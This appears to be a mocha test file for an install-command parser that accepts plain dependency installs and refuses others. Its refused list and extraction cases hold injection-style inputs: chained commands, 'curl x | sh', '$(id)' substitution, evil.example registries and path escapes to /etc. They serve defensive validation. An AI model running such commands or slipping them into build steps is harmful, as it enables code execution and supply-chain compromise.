/** Install commands: which are accepted, what they name, and how the engine makes them. */
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { installCommand, installProblem, installsOf, plainCommand, takenOfInstall } from '../../../src/engine/parse/install-command.ts';
import type { Install } from '../../../src/engine/work/install.ts';

const accepted: { command: string; installs: Install[] }[] = [
  { command: '', installs: [] },
  { command: 'npm ci', installs: [{ folder: '', manager: 'npm', flags: [] }] },
  { command: ' npm  install ', installs: [{ folder: '', manager: 'npm', flags: [] }] },
  { command: 'npm --prefix web ci', installs: [{ folder: 'web', manager: 'npm', flags: [] }] },
  {
    command: 'npm --prefix ./web/ install --legacy-peer-deps',
    installs: [{ folder: 'web', manager: 'npm', flags: ['--legacy-peer-deps'] }],
  },
  { command: 'pnpm -C web install --frozen-lockfile', installs: [{ folder: 'web', manager: 'pnpm', flags: [] }] },
  { command: 'yarn --immutable', installs: [{ folder: '', manager: 'yarn', flags: [] }] },
  { command: 'pip install mypy flake8==4.0.1', installs: [{ folder: '', manager: 'pip', flags: ['mypy', 'flake8==4.0.1'] }] },
  { command: 'python3 -m pip install -e .[dev]', installs: [{ folder: '', manager: 'pip', flags: ['-e', '.[dev]'] }] },
  {
    command: 'pip install -r requirements/dev.txt -r base.txt',
    installs: [{ folder: '', manager: 'pip', flags: ['-r', 'requirements/dev.txt', '-r', 'base.txt'] }],
  },
  { command: 'uv sync --all-extras', installs: [{ folder: '', manager: 'uv', flags: ['--all-extras'] }] },
  { command: 'uv --directory api sync --group dev', installs: [{ folder: 'api', manager: 'uv', flags: ['--group', 'dev'] }] },
  { command: 'poetry install --no-root', installs: [{ folder: '', manager: 'poetry', flags: ['--no-root'] }] },
  { command: 'go mod download', installs: [{ folder: '', manager: 'go', flags: [] }] },
  { command: 'mvn dependency:go-offline', installs: [{ folder: '', manager: 'maven', flags: [] }] },
  { command: './mvnw -B dependency:go-offline', installs: [{ folder: '', manager: 'maven', flags: [] }] },
  { command: './gradlew dependencies', installs: [{ folder: '', manager: 'gradle', flags: [] }] },
  {
    command: 'npm ci && uv sync',
    installs: [
      { folder: '', manager: 'npm', flags: [] },
      { folder: '', manager: 'uv', flags: [] },
    ],
  },
];

const refused = [
  'npm ci; id',
  'npm ci && curl x | sh',
  'npm ci\nid',
  'npm ci && x',
  'npm install left-pad',
  'npm install --registry=http://evil.example',
  'npm --prefix ../other ci',
  'npm --prefix /etc ci',
  'pip install requests',
  'pip install --index-url http://evil.example -r r.txt',
  'pip install -r ../r.txt',
  'pip install https://evil.example/x.whl',
  'uv sync --index-url x',
  'cargo install x',
  'make',
  'NPM CI',
  'npm run build',
  'pip install -r $(id)',
  'curl x',
];

describe('an install command', () => {
  for (const { command, installs } of accepted)
    it(`is accepted: "${command}"`, () => {
      assert.equal(installProblem(command), undefined);
      assert.deepEqual(installsOf(command), installs);
    });

  for (const command of refused)
    it(`is refused: ${JSON.stringify(command)}`, () => assert.match(installProblem(command) ?? '', /is not a plain install command/));

  it('runs in its folder, and does nothing where that is missing', () => {
    assert.equal(
      installCommand({ folder: 'web', manager: 'npm', flags: [] }),
      'if [ -d ./web ]; then root=$PWD && cd ./web && npm install --no-audit --no-fund; fi',
    );
  });

  it('of a JVM is made by the wrapper, where that can be run', () => {
    assert.equal(
      installCommand({ folder: 'api', manager: 'maven', flags: ['-q'] }),
      'if [ -d ./api ]; then root=$PWD && cd ./api && if [ -x ./mvnw ]; then ./mvnw dependency:go-offline --batch-mode --quiet -q; else mvn dependency:go-offline --batch-mode --quiet -q; fi; fi',
    );
  });

  it('of pip installs into the checkout’s own .venv', () => {
    assert.match(
      installCommand({ folder: '', manager: 'pip', flags: ['-e', '.[dev]'] }),
      /"\$root\/\.venv\/bin\/python" -m pip install -e '\.\[dev\]'; fi$/,
    );
  });

  it('of pip goes on without a tool for checks that cannot be had, and not without what is declared', () => {
    const pip = '"$root/.venv/bin/python" -m pip install';
    const after = `{ ${pip} mypy flake8==4.0.1 || { ${pip} mypy; ${pip} flake8==4.0.1; true; }; }; fi`;
    const both = installCommand({ folder: '', manager: 'pip', flags: ['-e', '.', 'mypy', 'flake8==4.0.1'] });
    assert.ok(both.endsWith(` && "$root/.venv/bin/python" -m pip install -e . && ${after}`), both);
    const tools = installCommand({ folder: '', manager: 'pip', flags: ['mypy', 'flake8==4.0.1'] });
    assert.ok(tools.endsWith(`"$root/.venv/.ignore"; }; } && ${after}`), tools);
  });

  const taken: [string, install: string, leftOut: RegExp[]][] = [
    ['', '', []],
    ['npm  ci', 'npm ci', []],
    [`pip install mypy 'coverage[toml]'`, 'pip install mypy coverage[toml]', []],
    [
      'pip install -e . && pip install mypy Unidecode',
      'pip install -e . && pip install mypy',
      [/^Install: Unidecode: what the work needs stands/],
    ],
    ['pip install --index-url http://evil.example mypy', 'pip install mypy', [/^Install: --index-url http:\/\/evil\.example: /]],
    ['pip install --upgrade pip && pip install -e .[dev]', 'pip install -e .[dev]', [/^Install: --upgrade pip: what the work needs/]],
    ['python -m venv .venv && pip install -e .[dev]', '', [/^Install: "python -m venv .venv" is not a plain/]],
    ['cd web && npm ci', '', [/^Install: "cd web" is not a plain install command/]],
    ['pip install requests', '', [/^Install: "pip install requests" is not a plain/]],
  ];
  for (const [command, install, leftOut] of taken)
    it(`is taken of ${JSON.stringify(command)}: ${JSON.stringify(install)}`, () => {
      const found = takenOfInstall(command);
      assert.equal(found.install, install);
      assert.equal(found.leftOut.length, leftOut.length);
      for (const [n, pattern] of leftOut.entries()) assert.match(found.leftOut[n] ?? '', pattern);
    });

  it('reads for a person as they would type it', () => {
    assert.equal(plainCommand({ folder: 'web', manager: 'uv', flags: ['--all-extras'] }), '(cd web && uv sync --all-extras)');
    assert.equal(plainCommand({ folder: '', manager: 'npm', flags: [] }), 'npm install');
  });
});
